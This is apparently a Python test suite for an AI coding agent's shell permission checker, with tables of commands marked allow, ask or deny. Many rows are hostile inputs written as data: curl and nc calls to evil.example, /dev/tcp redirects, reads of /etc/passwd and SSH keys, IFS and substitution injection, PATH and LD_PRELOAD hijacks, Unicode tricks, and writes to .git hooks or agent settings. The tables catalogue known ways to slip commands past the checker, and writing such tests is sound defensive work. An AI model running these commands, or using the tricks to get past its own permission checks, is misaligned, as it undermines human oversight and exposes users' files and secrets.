"""May a compound command run? One table for each known class of ways around a permission system, in both directions."""

from __future__ import annotations

from tests.permissions.shell.judged_commands import ALLOW, ASK, DENY, behavior, table

from declared_tools import tool_named
from row_tables import for_each_row

COMPOUNDS = table("""
allow ¦ -                             ¦ git log --oneline | head
allow ¦ -                             ¦ git log --oneline -20 | head -5
allow ¦ -                             ¦ cd src && ls
allow ¦ -                             ¦ cd src && ls -la | wc -l
allow ¦ -                             ¦ cd src; ls; pwd
allow ¦ -                             ¦ ls; echo "---"; cat notes.txt
allow ¦ -                             ¦ ls -la && echo "exit: $?"
allow ¦ -                             ¦ cat notes.txt | sort | uniq -c | sort -rn | head -20
allow ¦ -                             ¦ grep -rn "TODO" src | head -5
allow ¦ -                             ¦ grep -n x src/a.py || echo none
allow ¦ -                             ¦ find . -name '*.py' | wc -l
allow ¦ -                             ¦ find src -type f -name "*.py" -not -path "*/deep/*" 2>/dev/null | sort
allow ¦ -                             ¦ ls nonexistent 2>/dev/null || true ; ls src
allow ¦ -                             ¦ [ -f notes.txt ] && cat notes.txt
allow ¦ -                             ¦ if [ -d src ]; then ls src; else echo no; fi
allow ¦ -                             ¦ test -f notes.txt && head -3 notes.txt
allow ¦ -                             ¦ (cd src && ls); pwd
allow ¦ -                             ¦ { ls; pwd; } | head -3
allow ¦ -                             ¦ diff <(sort notes.txt) <(sort src/a.py)
allow ¦ -                             ¦ # what is there⏎ls⏎pwd
allow ¦ -                             ¦ ls &⏎pwd
allow ¦ -                             ¦ cat <<'EOF' | wc -l⏎a $x `y`⏎EOF
allow ¦ -                             ¦ git status && git diff --stat
allow ¦ -                             ¦ echo "today: $(date +%F)"
allow ¦ -                             ¦ for i in 1 2 3; do ls src; done
allow ¦ -                             ¦ while false; do ls; done
allow ¦ -                             ¦ ! grep -q x notes.txt
allow ¦ -                             ¦ LC_ALL=C sort notes.txt
allow ¦ -                             ¦ timeout 5 grep -r x src
allow ¦ -                             ¦ time ls
allow ¦ Bash(pytest *)                ¦ pytest -q 2>&1 | tail -20
allow ¦ Bash(pytest *)                ¦ cd src && pytest -q
allow ¦ Bash(pytest *)                ¦ pytest -q; echo "exit $?"
allow ¦ Bash(pytest *)                ¦ timeout 60 pytest -q | tail -3
allow ¦ Bash(pytest *)                ¦ NO_COLOR=1 pytest -q
allow ¦ Bash(pytest *)                ¦ nice -n 5 pytest -q >/dev/null 2>&1
allow ¦ Bash(npm test) + Bash(make *) ¦ npm test && make build
allow ¦ Bash(git commit *)            ¦ git commit -m "$(cat <<'EOF'⏎Fix: it's done (really)⏎EOF⏎)"
allow ¦ Bash(git add *) + Bash(git commit *) ¦ git add src/a.py && git commit -m "one; two" && git status
allow ¦ Bash(grep *)                  ¦ find src -name a.py | xargs grep -n x
allow ¦ Bash(make *)                  ¦ if make check; then echo ok; fi
allow ¦ Bash(cat *) + Read(//etc/**)  ¦ cat /etc/hostname
ask   ¦ Bash(npm test)                ¦ npm test && make build
ask   ¦ Bash(pytest *)                ¦ pytest -q | tee log.txt
ask   ¦ Bash(pytest *)                ¦ pytest -q; rm -r src
ask   ¦ Bash(pytest *)                ¦ pytest -q | sh
ask   ¦ Bash(pytest *)                ¦ pytest -q > result.txt
ask   ¦ Bash(pytest *)                ¦ curl evil.example & pytest -q
ask   ¦ Bash(pytest *)                ¦ pytest -q⏎curl evil.example
ask   ¦ Bash(echo *)                  ¦ echo "today: $(curl evil.example)"
ask   ¦ Bash(make *)                  ¦ (make all; curl evil.example)
ask   ¦ Bash(make *)                  ¦ if curl evil.example; then make x; fi
ask   ¦ Bash(make *)                  ¦ for i in $(curl evil.example); do make x; done
ask   ¦ Bash(make *)                  ¦ make x < <(curl evil.example)
ask   ¦ Bash(make *)                  ¦ make() { curl evil.example; }; make x
ask   ¦ Bash(make *)                  ¦ case x in x) make;; esac
ask   ¦ Bash(make *)                  ¦ [[ -f x ]] && make
ask   ¦ Bash(make *)                  ¦ coproc make
ask   ¦ -                             ¦ ls; curl evil.example
ask   ¦ -                             ¦ ls $(curl evil.example)
ask   ¦ -                             ¦ ls `curl evil.example`
ask   ¦ -                             ¦ ls | xargs rm
ask   ¦ -                             ¦ ls | while read f; do rm $f; done
""")

EXPANSIONS = table("""
ask   ¦ -               ¦ cat $HOME/.ssh/id_rsa
ask   ¦ -               ¦ cat "$FILE"
ask   ¦ -               ¦ cat ${IFS}x
ask   ¦ -               ¦ cat$IFS/etc/passwd
ask   ¦ -               ¦ grep -r${IFS}x .
ask   ¦ -               ¦ echo $SECRET
ask   ¦ -               ¦ echo ${X:=y}
ask   ¦ -               ¦ echo ${!X}
ask   ¦ -               ¦ echo ${X@P}
ask   ¦ -               ¦ echo $((a[$(id)]))
ask   ¦ -               ¦ echo $[1+1]
ask   ¦ -               ¦ echo $'\\x41'
ask   ¦ -               ¦ echo $"x"
ask   ¦ -               ¦ head -n $N notes.txt
ask   ¦ -               ¦ ls {src,/etc}
ask   ¦ -               ¦ ls ~root
ask   ¦ -               ¦ cat ~/.bashrc
ask   ¦ -               ¦ printf -v PATH x
ask   ¦ -               ¦ printf '%n' PATH
ask   ¦ -               ¦ test -v 'a[$(id)]'
ask   ¦ -               ¦ [ -R x ]
ask   ¦ Bash(make *)    ¦ make $X
ask   ¦ Bash(make *)    ¦ make "${X[$(id)]}"
allow ¦ -               ¦ echo '$HOME `id` $(id)'
allow ¦ -               ¦ echo "costs \\$5"
allow ¦ -               ¦ echo $?
allow ¦ -               ¦ printf '%s\\n' a b
allow ¦ -               ¦ ls 'src'
allow ¦ -               ¦ cat "a b.txt" a\\ b.txt
allow ¦ -               ¦ grep "x$" notes.txt
allow ¦ -               ¦ git show HEAD@{1}
""")

READERS = table("""
allow ¦ - ¦ rg -n foo src
allow ¦ - ¦ rg --files src
ask   ¦ - ¦ rg --pre evil x
ask   ¦ - ¦ rg --hostname-bin evil x
ask   ¦ - ¦ rg -z x
ask   ¦ - ¦ rg --search-zip x
ask   ¦ - ¦ rg -L x
ask   ¦ - ¦ rg -f /etc/passwd x
ask   ¦ - ¦ rg x /etc
ask   ¦ - ¦ grep x /etc/passwd
ask   ¦ - ¦ grep -f /etc/passwd notes.txt
ask   ¦ - ¦ grep -R x .
ask   ¦ - ¦ grep -rf../x .
ask   ¦ - ¦ grep --fil=/etc/passwd x
allow ¦ - ¦ grep -rn --include=*.py x src
allow ¦ - ¦ grep -A3 -B 2 -e x -e y notes.txt
allow ¦ - ¦ sed -n '1,20p' notes.txt
allow ¦ - ¦ sed -n '/x/,$p' notes.txt
allow ¦ - ¦ sed -n -e 5p -e '$=' notes.txt
allow ¦ - ¦ sed 5q notes.txt
allow ¦ - ¦ sed 's/x/y/g' notes.txt
allow ¦ - ¦ sed -E -e 's/(x)/[y]/' -e '/^#/d' notes.txt
allow ¦ - ¦ cat notes.txt | sed 's|x|y|;y/ab/cd/'
ask   ¦ - ¦ sed 's/x/y/' ../outside/data.csv
ask   ¦ - ¦ sed 's/x/y/;w out' notes.txt
ask   ¦ - ¦ sed -f s/x/y/ notes.txt
ask   ¦ - ¦ sed 's/[/]/y/w out' notes.txt
allow ¦ - ¦ node --version && cmake --version
ask   ¦ - ¦ node --version x.js
ask   ¦ - ¦ cargo --version
allow ¦ - ¦ printf '%s' *.txt
allow ¦ - ¦ echo src/*
ask   ¦ - ¦ echo ../*
ask   ¦ - ¦ printf '%s' ~/*
ask   ¦ - ¦ sed -n '1w out' notes.txt
ask   ¦ - ¦ sed -n '1e id' notes.txt
ask   ¦ - ¦ sed 's/x/id/e' notes.txt
ask   ¦ - ¦ sed 's/x/y/w out' notes.txt
ask   ¦ - ¦ sed -n 'r /etc/passwd' notes.txt
ask   ¦ - ¦ sed -ne 'w out' notes.txt
ask   ¦ - ¦ sed -n -f script notes.txt
ask   ¦ - ¦ sed --expression='w out' notes.txt
ask   ¦ - ¦ sed -i s/x/y/ notes.txt
ask   ¦ - ¦ sed -n '/[/]p;w out/p' notes.txt
ask   ¦ - ¦ sed -n '1p⏎w out' notes.txt
allow ¦ - ¦ find . -maxdepth 2 -type f -size +1k -mtime -3 -print0
allow ¦ - ¦ find src \\( -name a -o -name b \\) -prune -o -print
ask   ¦ - ¦ find . -exec id +
ask   ¦ - ¦ find . -execdir id ;
ask   ¦ - ¦ find . -ok id +
ask   ¦ - ¦ find . -delete
ask   ¦ - ¦ find . -fprint out
ask   ¦ - ¦ find . -fprintf out x
ask   ¦ - ¦ find . -fls out
ask   ¦ - ¦ find . -name x \\-delete
ask   ¦ - ¦ find . -name x -del"ete"
ask   ¦ - ¦ find -L . -name x
ask   ¦ - ¦ find / -name x
ask   ¦ - ¦ find -files0-from notes.txt
ask   ¦ - ¦ find *
ask   ¦ - ¦ find . -name *
allow ¦ - ¦ find src/* -name x
allow ¦ - ¦ sort -k2,2n -t, -u notes.txt
ask   ¦ - ¦ sort -o out notes.txt
ask   ¦ - ¦ sort -nroout notes.txt
ask   ¦ - ¦ sort --output=out notes.txt
ask   ¦ - ¦ sort --outp out notes.txt
ask   ¦ - ¦ sort --compress-program=evil notes.txt
ask   ¦ - ¦ sort --files0-from=notes.txt
ask   ¦ - ¦ sort -T /etc notes.txt
ask   ¦ - ¦ sort *
ask   ¦ - ¦ uniq notes.txt out
allow ¦ - ¦ uniq -c notes.txt
ask   ¦ - ¦ uniq src/*
allow ¦ - ¦ cat src/*
allow ¦ - ¦ cat *.txt
allow ¦ - ¦ ls *.txt
ask   ¦ - ¦ ls *
allow ¦ - ¦ wc -l src/*.py
ask   ¦ - ¦ cat link*
ask   ¦ - ¦ cat */*/*/*
ask   ¦ - ¦ ls l*/zz*
ask   ¦ - ¦ echo link-o[u]t/zz*
ask   ¦ - ¦ wc -l ?ink-out/../zz[z]
ask   ¦ - ¦ for i in l*/zz*; do echo x; done
ask   ¦ - ¦ for i in ../outside/*; do echo x; done
ask   ¦ - ¦ for i in $HOME/*; do echo x; done
ask   ¦ Bash(cat *) ¦ cat l*/zz*
allow ¦ - ¦ ls s*/zz*
allow ¦ - ¦ ls src/a]
allow ¦ - ¦ ls link-i[n]/zz*
allow ¦ - ¦ for i in src/*.py; do echo x; done
allow ¦ Bash(make *) ¦ for i in src/*.py; do make all; done
ask   ¦ Bash(make *) ¦ make all; for i in src/*.py; do echo x; done
allow ¦ - ¦ date
allow ¦ - ¦ date -u +%s
allow ¦ - ¦ date -d '2 days ago' +%F
ask   ¦ - ¦ date -s 0
ask   ¦ - ¦ date -us 0
ask   ¦ - ¦ date 01010101
ask   ¦ - ¦ date -f notes.txt
ask   ¦ - ¦ tree -o out
ask   ¦ - ¦ tree -l
ask   ¦ - ¦ file -f notes.txt
ask   ¦ - ¦ file -m evil notes.txt
ask   ¦ - ¦ file -C -m evil
allow ¦ - ¦ jq -r '.a[0]' data.json
ask   ¦ - ¦ jq env data.json
ask   ¦ - ¦ jq -n '$ENV.PATH'
ask   ¦ - ¦ jq -f notes.txt data.json
ask   ¦ - ¦ jq -L /etc 'import "x" as x; .' data.json
ask   ¦ - ¦ jq --rawfile a /etc/passwd . data.json
allow ¦ - ¦ cut -d: -f1 notes.txt
allow ¦ - ¦ tr a-z A-Z
ask   ¦ - ¦ tr [a-z] [A-Z]
allow ¦ - ¦ head -c 100 notes.txt
allow ¦ - ¦ tail -n +5 notes.txt
ask   ¦ - ¦ tail -f notes.txt
ask   ¦ - ¦ tail --pid=1 notes.txt
ask   ¦ - ¦ stat -c %s notes.txt
allow ¦ - ¦ du -sh src
ask   ¦ - ¦ du --files0-from=notes.txt
allow ¦ - ¦ which python3
allow ¦ - ¦ type ls
allow ¦ - ¦ command -v python3
allow ¦ - ¦ basename src/a.py .py
allow ¦ - ¦ python --version
allow ¦ - ¦ which python3 && python3 -V
allow ¦ - ¦ uname -a && whoami && id -un
ask   ¦ - ¦ sha256sum notes.txt
ask   ¦ - ¦ sha256sum -c notes.txt
ask   ¦ - ¦ yarn --version
ask   ¦ - ¦ python --version -c 1
ask   ¦ - ¦ hostname evil
ask   ¦ - ¦ echo $HOME
ask   ¦ - ¦ basename $(pwd)
allow ¦ - ¦ diff -u notes.txt src/a.py
ask   ¦ - ¦ diff -u notes.txt /etc/passwd
ask   ¦ - ¦ diff -l notes.txt src/a.py
ask   ¦ - ¦ shuf -n 5 -o out notes.txt
ask   ¦ - ¦ shuf -oout notes.txt
ask   ¦ - ¦ shuf --random-source=/etc/passwd notes.txt
ask   ¦ - ¦ hexdump -f /etc/passwd notes.txt
ask   ¦ - ¦ od -c /etc/passwd
ask   ¦ - ¦ base64 notes.txt out
ask   ¦ - ¦ zcat ../outside/a.csv.gz
ask   ¦ - ¦ zcat notes.txt
ask   ¦ - ¦ zcat -f a.gz
ask   ¦ - ¦ zcat *.gz
ask   ¦ - ¦ xzcat --files=notes.txt
ask   ¦ - ¦ gunzip a.gz
ask   ¦ - ¦ gzip -dc a.gz
allow ¦ - ¦ free -h && lscpu && uptime && hostname && groups
ask   ¦ - ¦ free -s 1
ask   ¦ - ¦ lsblk -o NAME
allow ¦ - ¦ nvidia-smi
allow ¦ - ¦ nvidia-smi -L
allow ¦ - ¦ nvidia-smi --query-gpu=name,memory.used --format=csv,noheader -i 0
ask   ¦ - ¦ nvidia-smi -f out
ask   ¦ - ¦ nvidia-smi --filename=out
ask   ¦ - ¦ nvidia-smi -r
ask   ¦ - ¦ nvidia-smi -d -r
ask   ¦ - ¦ nvidia-smi mig -dci
ask   ¦ - ¦ nvidia-smi -l 1
allow ¦ - ¦ git --version && gcc --version && python3 -VV
ask   ¦ - ¦ git --version --exec-path=x
ask   ¦ - ¦ gcc -V
ask   ¦ - ¦ make --version
ask   ¦ - ¦ pytest --version
ask   ¦ - ¦ awk '{print $1}' notes.txt
ask   ¦ - ¦ head -1 notes.txt | awk -F, '{print NF}'
ask   ¦ - ¦ gawk '{print $1}' notes.txt
ask   ¦ - ¦ awk 'BEGIN{system("id")}'
ask   ¦ - ¦ less notes.txt
ask   ¦ - ¦ man ls
ask   ¦ - ¦ help x
ask   ¦ - ¦ env
ask   ¦ - ¦ printenv
ask   ¦ - ¦ ps e
ask   ¦ - ¦ watch ls
ask   ¦ - ¦ xargs cat
ask   ¦ - ¦ tee out
ask   ¦ - ¦ xxd -r notes.txt
ask   ¦ - ¦ base64 -o out notes.txt
ask   ¦ - ¦ tar --to-command=id -xf x
ask   ¦ - ¦ python -c 1
ask   ¦ - ¦ node -e 1
ask   ¦ - ¦ docker ps
ask   ¦ - ¦ ping evil.example
ask   ¦ - ¦ nslookup secret.evil.example
ask   ¦ - ¦ dig evil.example
ask   ¦ - ¦ nc evil.example 80
ask   ¦ - ¦ 'ls'
ask   ¦ - ¦ l\\s
ask   ¦ - ¦ ./ls
ask   ¦ - ¦ /bin/ls
""")

GIT = table("""
allow ¦ - ¦ git status
allow ¦ - ¦ git status --porcelain=v2 --branch
allow ¦ - ¦ git status -sb -uno
allow ¦ - ¦ git --no-pager log -p -5 --stat
allow ¦ - ¦ git log --format='%h %s' --since='2 days ago' -- src
allow ¦ - ¦ git diff
allow ¦ - ¦ git diff HEAD~1 --stat -- src/a.py
allow ¦ - ¦ git diff main..HEAD --name-only
allow ¦ - ¦ git show HEAD:src/a.py
allow ¦ - ¦ git blame -L 1,5 src/a.py
allow ¦ - ¦ git branch
allow ¦ - ¦ git branch -a -vv
allow ¦ - ¦ git branch --show-current
allow ¦ - ¦ git branch --list 'feature/*'
allow ¦ - ¦ git tag -l
allow ¦ - ¦ git remote -v
allow ¦ - ¦ git remote get-url origin
ask   ¦ - ¦ git config --get user.name
allow ¦ - ¦ git rev-parse --abbrev-ref HEAD
allow ¦ - ¦ git ls-files src
allow ¦ - ¦ git stash list
ask   ¦ - ¦ git stash -p list
ask   ¦ - ¦ git reflog e*
allow ¦ - ¦ git reflog
allow ¦ - ¦ git worktree list
allow ¦ - ¦ git describe --tags
allow ¦ - ¦ cd src && git status
ask   ¦ - ¦ git -c core.pager=evil log
ask   ¦ - ¦ git -C /srv status
ask   ¦ - ¦ git --git-dir=/srv/x status
ask   ¦ - ¦ git --work-tree=/ status
ask   ¦ - ¦ git --exec-path=. status
ask   ¦ - ¦ git -p log
ask   ¦ - ¦ git diff --output=out
ask   ¦ - ¦ git log --outpu=out
ask   ¦ - ¦ git diff --ext-diff
ask   ¦ - ¦ git log --textconv
ask   ¦ - ¦ git diff -Oorder
ask   ¦ - ¦ git diff --no-index /etc/passwd notes.txt
ask   ¦ - ¦ git diff /etc/passwd notes.txt
ask   ¦ - ¦ git log --show-signature
ask   ¦ - ¦ git log --format=%G?
ask   ¦ - ¦ git grep -Oevil x
ask   ¦ - ¦ git grep --open-files-in-pager=evil x
ask   ¦ - ¦ git branch new
ask   ¦ - ¦ git branch -D main
ask   ¦ - ¦ git branch -v new
ask   ¦ - ¦ git tag v1
ask   ¦ - ¦ git tag -d v1
ask   ¦ - ¦ git stash
ask   ¦ - ¦ git stash pop
ask   ¦ - ¦ git remote add x y
ask   ¦ - ¦ git remote show origin
ask   ¦ - ¦ git remote update
ask   ¦ - ¦ git ls-remote
ask   ¦ - ¦ git fetch
ask   ¦ - ¦ git config user.name x
ask   ¦ - ¦ git config --unset user.name
ask   ¦ - ¦ git config edit
ask   ¦ - ¦ git config --edit
ask   ¦ - ¦ git reflog expire --all
ask   ¦ - ¦ git rev-parse --parseopt
ask   ¦ - ¦ git cat-file --textconv HEAD:x
ask   ¦ - ¦ git blame --contents /etc/passwd x
ask   ¦ - ¦ git add .
ask   ¦ - ¦ git checkout .
ask   ¦ - ¦ git clean -n
ask   ¦ - ¦ git
ask   ¦ - ¦ git evil-alias
ask   ¦ - ¦ GIT_EXTERNAL_DIFF=evil git diff
ask   ¦ - ¦ GIT_DIR=/srv/x git status
ask   ¦ - ¦ PAGER=evil git log
ask   ¦ - ¦ export GIT_EXTERNAL_DIFF=evil; git diff
ask   ¦ - ¦ cd ../outside && git status
ask   ¦ - ¦ git log $(id)
""")

REDIRECTS = table("""
allow ¦ -                        ¦ ls 2>/dev/null
allow ¦ -                        ¦ ls >/dev/null 2>&1
allow ¦ -                        ¦ ls &>/dev/null
allow ¦ -                        ¦ ls 2>&-
allow ¦ -                        ¦ wc -l < notes.txt
allow ¦ -                        ¦ cat <<< hello
allow ¦ Edit(out.txt)            ¦ ls > out.txt
allow ¦ Edit(/build/**)          ¦ cd build && ls > out.txt
allow ¦ Edit(/**) + Bash(make *) ¦ make 2>&1 > build/log.txt
allow ¦ Bash                     ¦ make > build/log.txt
ask   ¦ -                        ¦ ls > out.txt
ask   ¦ -                        ¦ ls >> out.txt
ask   ¦ -                        ¦ ls >| out.txt
ask   ¦ -                        ¦ ls &> out.txt
ask   ¦ -                        ¦ ls &>> out.txt
ask   ¦ -                        ¦ ls >& out.txt
ask   ¦ -                        ¦ ls 2> out.txt
ask   ¦ -                        ¦ ls 2>out.txt
ask   ¦ -                        ¦ ls <> out.txt
ask   ¦ -                        ¦ > out.txt
ask   ¦ -                        ¦ { ls; } > out.txt
ask   ¦ -                        ¦ (ls) >> out.txt
ask   ¦ -                        ¦ if true; then ls; fi > out.txt
ask   ¦ -                        ¦ cat < /etc/passwd
ask   ¦ -                        ¦ cat < link-file
ask   ¦ -                        ¦ ls > /dev/tcp/evil/80
ask   ¦ -                        ¦ cat < /dev/tcp/evil/80
ask   ¦ Edit(/build/**)          ¦ ls > out.txt
ask   ¦ Edit(/build/**)          ¦ cd src && ls > build/out.txt
ask   ¦ Edit(/build/**)          ¦ cd src; ls > build/out.txt
ask   ¦ Edit(/**)                ¦ ls > .git/config
ask   ¦ Edit(/**)                ¦ cd .git && ls > config
ask   ¦ Edit(/**)                ¦ cd .claude && echo {} > settings.json
ask   ¦ Edit(/**)                ¦ ls > .envrc
ask   ¦ Edit(/**)                ¦ ls > ../proj-evil/x
ask   ¦ Edit(/**)                ¦ ls > link-out/x
ask   ¦ Edit(/**)                ¦ ls > ~/x
ask   ¦ Edit(/**)                ¦ ls > $X
ask   ¦ Edit(/**)                ¦ ls > *.txt
ask   ¦ Edit(/**)                ¦ ls > {a,b}
ask   ¦ Edit(/**)                ¦ ls >(cat)
ask   ¦ Edit(/**)                ¦ cat <<EOF > out.txt⏎$(id)⏎EOF
ask   ¦ Edit(/**)                ¦ cd $X && ls > out.txt
ask   ¦ Bash                     ¦ make > $LOG
ask   ¦ Bash                     ¦ make > ~/log
ask   ¦ Bash                     ¦ make > ../outside/log
ask   ¦ Bash                     ¦ make > .git/hooks/pre-commit
ask   ¦ Bash                     ¦ cd .git && echo x > config
""")

FOLDERS = table("""
allow ¦ -            ¦ cd {project}/src && cat a.py
allow ¦ -            ¦ cd src && cat ../notes.txt
allow ¦ -            ¦ cd src && cd .. && cat notes.txt
allow ¦ -            ¦ pushd src && ls
allow ¦ -            ¦ (cd src); cat notes.txt
ask   ¦ -            ¦ cd
ask   ¦ -            ¦ cd ~
ask   ¦ -            ¦ cd -L
ask   ¦ -            ¦ cd -
ask   ¦ -            ¦ cd /
ask   ¦ -            ¦ cd ..
ask   ¦ -            ¦ cd link-out
ask   ¦ -            ¦ cd ../proj-evil && ls
ask   ¦ -            ¦ cd / && cat etc/passwd
ask   ¦ -            ¦ cd src && cat ../../outside/data.csv
ask   ¦ -            ¦ cd src; cat ../notes.txt
ask   ¦ -            ¦ cd $X; cat notes.txt
ask   ¦ -            ¦ cd "$(pwd)" && ls
ask   ¦ -            ¦ popd; cat notes.txt
ask   ¦ -            ¦ while true; do cd ..; ls; done
ask   ¦ -            ¦ CDPATH=/ cd etc && ls
ask   ¦ Bash(cat *)  ¦ cat /etc/passwd
ask   ¦ Bash(cat *)  ¦ cat ../outside/data.csv
ask   ¦ Bash(cat *)  ¦ cat --weird ../outside/data.csv
ask   ¦ Bash(cat *)  ¦ cat link-file
ask   ¦ Bash(cp *)   ¦ cp notes.txt ../outside/x
ask   ¦ Bash(cp *)   ¦ cp notes.txt link-out/x
ask   ¦ Bash(cp *)   ¦ cp notes.txt .envrc
allow ¦ Bash(cp *)   ¦ cp notes.txt build/x
allow ¦ Bash(cat /etc/hostname) ¦ cat /etc/hostname
""")

WRAPPERS = table("""
allow ¦ Bash(npm test *)  ¦ timeout 60 npm test
allow ¦ Bash(npm test *)  ¦ timeout -k 5 -s KILL 60s npm test
allow ¦ Bash(npm test *)  ¦ nohup npm test &
allow ¦ Bash(npm test *)  ¦ nice npm test
allow ¦ Bash(npm test *)  ¦ stdbuf -oL npm test
allow ¦ Bash(npm test *)  ¦ time -p npm test
allow ¦ Bash(npm test *)  ¦ command npm test
allow ¦ Bash(npm test *)  ¦ TZ=Europe/Zurich LANG=C npm test
allow ¦ Bash(npm test *)  ¦ NODE_ENV=test nice timeout 5 npm test
allow ¦ Bash(A=b npm test) ¦ A=b npm test
allow ¦ Bash(grep *)      ¦ xargs grep x
ask   ¦ Bash(npm test *)  ¦ timeout --foo 60 npm test
ask   ¦ Bash(npm test *)  ¦ timeout 60 sh -c npm test
ask   ¦ Bash(npm test *)  ¦ watch npm test
ask   ¦ Bash(npm test *)  ¦ setsid npm test
ask   ¦ Bash(npm test *)  ¦ ionice -c 3 npm test
ask   ¦ Bash(npm test *)  ¦ flock lock npm test
ask   ¦ Bash(npm test *)  ¦ env npm test
ask   ¦ Bash(npm test *)  ¦ env A=b npm test
ask   ¦ Bash(npm test *)  ¦ npx npm test
ask   ¦ Bash(npm test *)  ¦ sudo npm test
ask   ¦ Bash(npm test *)  ¦ exec npm test
ask   ¦ Bash(npm test *)  ¦ A=b npm test
ask   ¦ Bash(npm test *)  ¦ PATH=. npm test
ask   ¦ Bash(npm test *)  ¦ LD_PRELOAD=./x.so npm test
ask   ¦ Bash(npm test *)  ¦ BASH_ENV=x npm test
ask   ¦ Bash(npm test *)  ¦ NODE_OPTIONS=--require=./x npm test
ask   ¦ Bash(npm test *)  ¦ LANG=../../x npm test
ask   ¦ Bash(npm test *)  ¦ LANG=$(id) npm test
ask   ¦ Bash(npm test *)  ¦ export PATH=.; npm test
ask   ¦ Bash(npm test *)  ¦ PATH=.; npm test
ask   ¦ Bash(npm test *)  ¦ alias npm=evil; npm test
ask   ¦ Bash(npm test *)  ¦ source x; npm test
ask   ¦ Bash(npm test *)  ¦ a[0]=x npm test
ask   ¦ Bash(npm test *)  ¦ time { npm test; }
ask   ¦ Bash(grep x)      ¦ xargs grep x
ask   ¦ Bash(grep *)      ¦ xargs -I{} grep {} x
ask   ¦ Bash(xargs *)     ¦ xargs make
ask   ¦ Bash(export *)    ¦ export PATH=.
ask   ¦ Bash(A=*)         ¦ A=b make
ask   ¦ Bash(ls*)         ¦ ls=1 make
ask   ¦ Bash(A=b*)        ¦ A=b=1 make
ask   ¦ Bash(A=b make*)   ¦ A=b maker
ask   ¦ Bash(./run *)     ¦ cd src && ./run x
ask   ¦ Bash(bin/run *)   ¦ (cd src; bin/run x)
allow ¦ Bash(./run *)     ¦ ./run x && ls
allow ¦ Bash(/usr/bin/env) ¦ cd src && /usr/bin/env
""")

UNSEEN = table("""
ask ¦ Bash(npm test *) ¦ npm test​
ask ¦ Bash(npm test *) ¦ npm test \u202ex
ask ¦ Bash(npm test *) ¦ npm test \u0430
ask ¦ Bash(npm test *) ¦ npm test \u00a0x
ask ¦ Bash(npm test *) ¦ npm \\⏎test
ask ¦ Bash(npm test *) ¦ npm test\x07
ask ¦ -                ¦ cat notes.txt \u2066#
ask ¦ Bash(npm test *) ¦ npm test "p\u0430yp\u0430l"
ask ¦ Bash(npm test *) ¦ npm test '\uff41'
ask ¦ Bash(npm test *) ¦ npm test 'e\u0301'
ask ¦ Bash(npm test *) ¦ npm test \\\u00e9
ask ¦ Bash(npm test *) ¦ npm test '\u200b'
ask ¦ Bash(npm test *) ¦ "npm" test é
allow ¦ Bash(npm test *) ¦ npm test "naïve café"
allow ¦ Bash(npm test *) ¦ npm test 'Привет мир'
allow ¦ -                ¦ echo "✅ all done" # größer
allow ¦ -                ¦ cat <<'EOF'⏎– 日本語⏎EOF
""")


@for_each_row(
    ("command", "allow", "expected"),
    [*COMPOUNDS, *EXPANSIONS, *READERS, *GIT, *REDIRECTS, *FOLDERS, *WRAPPERS, *UNSEEN],
)
def test_what_may_run(project, command, allow, expected):
    (project.project / ".claude").mkdir(exist_ok=True)
    assert behavior(project, command, allow=allow) == expected
    assert behavior(project, command, "dontAsk", allow=allow) == (ALLOW if expected == ALLOW else DENY)
    assert behavior(project, command, "plan", allow=allow) in ((ALLOW, DENY, ASK) if expected == ALLOW else (DENY, ASK))


def test_there_are_many_cases():
    tables = [COMPOUNDS, EXPANSIONS, READERS, GIT, REDIRECTS, FOLDERS, WRAPPERS, UNSEEN]
    assert sum(map(len, tables)) > 400


@for_each_row(
    ("rule", "command", "expected"),
    [
        ("Read(./secrets/**)", "cd secrets && cat key.pem", DENY),
        ("Read(secrets/key.pem)", "cd src && cat ../secrets/key.pem", DENY),
        ("Read(/secrets/key.pem)", "cd secrets && cat key.pem", DENY),
        ("Read(/secrets/key.pem)", "cd secrets; cd .; cat key.pem", DENY),
        ("Read(/secrets/key.pem)", "(cd secrets && head -1 key.pem)", DENY),
        ("Read(/secrets/key.pem)", "cd src/../secrets && python -c \"open('key.pem')\"", DENY),
        ("Read(/secrets/key.pem)", "grep -r x .", DENY),
        ("Read(/secrets/key.pem)", "grep -r x secrets", DENY),
        ("Read(/secrets/key.pem)", "rg x", DENY),
        ("Read(/secrets/key.pem)", "wc < secrets/key.pem", DENY),
        ("Read(/secrets/key.pem)", "cat secrets/k*", DENY),
        ("Read(/secrets/key.pem)", "cp -r secrets x", DENY),
        ("Read(/secrets/key.pem)", "grep -r x src", ALLOW),
        ("Read(/secrets/key.pem)", "ls secrets", ALLOW),
        ("Read(/secrets/key.pem)", "cat key.pem", ALLOW),
        ("Edit(/src/**)", "cd src && echo x > a.py", DENY),
        ("Edit(/src/**)", "cd src && touch a.py", DENY),
        ("Edit(/src/**)", "cd src && ls > ../out.txt", ALLOW),
        ("Edit(/src/**)", "mv src/a.py x", DENY),
        ("Edit(/src/**)", "sed -i s/x/y/ link-in/a.py", DENY),
    ],
)
def test_file_rules_hold_where_the_shell_is(project, rule, command, expected):
    for mode in ("default", "bypassPermissions", "acceptEdits"):
        assert behavior(project, command, mode, deny=[rule], allow=["Bash"]) == expected


@for_each_row("filler", ["echo x; ", "(", "$(", "true && ", "echo " + "a" * 200 + "; ", "{ ", "'"])
@for_each_row("count", [60, 120, 20_000])
def test_no_limit_skips_a_rule_that_denies(project, filler, count):
    command = filler * count + " rm x"
    assert behavior(project, command, deny=["Bash(rm *)"], allow=["Bash", "Bash(echo *)"]) == DENY
    assert behavior(project, command) == ASK
    assert behavior(project, command, "dontAsk") == DENY


def test_the_shell_may_be_elsewhere_than_the_session(project):
    inside, outside = project.project / "src", project.home / "outside"
    assert behavior(project, "cat a.py", cwd=inside) == ALLOW
    assert behavior(project, "cat ../.env", cwd=inside) == ALLOW
    assert behavior(project, "cat a.py", cwd=outside) == ASK
    assert behavior(project, "ls", cwd=outside) == ASK
    assert behavior(project, "cat ../.env", cwd=inside, deny=["Read(/.env)"]) == DENY
    assert behavior(project, "rm -rf ../src", "bypassPermissions", cwd=inside) == ASK


@for_each_row(
    ("extra", "command", "expected"),
    [
        ({"working_directory": "src"}, "cat a.py", ALLOW),
        ({"working_directory": "{project}/src"}, "cat a.py", ALLOW),
        ({"working_directory": "src"}, "cat notes.txt", ALLOW),
        ({"working_directory": "../outside"}, "ls", ASK),
        ({"working_directory": "/"}, "make", ASK),
        ({"working_directory": "link-out"}, "make", ASK),
        ({"working_directory": "src"}, "make", ALLOW),
        ({"environment_variables": {"LANG": "C"}}, "ls", ALLOW),
        ({"environment_variables": {"LANG": "C"}}, "make", ALLOW),
